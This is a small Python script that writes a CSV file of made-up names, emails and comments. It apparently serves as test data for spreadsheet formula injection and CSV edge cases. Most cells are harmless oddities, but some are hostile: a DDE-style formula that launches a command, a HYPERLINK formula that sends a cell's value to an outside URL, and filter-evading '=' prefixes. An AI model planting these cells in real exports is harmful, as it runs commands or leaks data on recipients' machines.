"""A list whose cells a spreadsheet would run, or change: python3 list.py FILE. All made up."""

import csv
import sys

starts = ["=1+1", '=HYPERLINK("https://example.org/?x="&A1,"here")', "+81 90", "-", "-1+2", "@SUM(A1)",
          "=cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "'=1+1", "''@x", "'plain", "'", "＝1+1", "plain",
          'a "quoted" word', "comma, semicolon; tab\there", "two\nlines", "=", "1-2", "007", "1E5",
          "TRUE", "2027-03-10", "髙﨑①㈱", "Łukasz", "\u3000=1+1", "%00", "😀"]
with open(sys.argv[1], "w", encoding="utf-8", newline="") as file:
    writer = csv.writer(file)
    writer.writerow(["Name", "Email", "Comment"])
    for number, start in enumerate(starts):
        writer.writerow([f"{start} Person" if number % 2 else f"Person {number}",
                         f"person{number}@example.org", start])
